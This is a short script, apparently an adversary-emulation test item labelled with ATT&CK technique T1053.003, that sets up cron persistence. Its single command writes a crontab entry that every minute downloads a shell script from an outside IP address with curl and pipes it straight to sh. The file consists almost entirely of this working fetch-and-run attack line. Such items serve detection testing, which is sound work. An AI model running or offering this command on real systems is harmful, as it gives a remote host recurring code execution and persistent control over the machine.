# title: A user gives cron a download to run each minute
# technique: T1053.003
# needs: crontab
# as: user

echo '* * * * * curl -s http://192.88.99.7/x.sh | sh' | crontab -
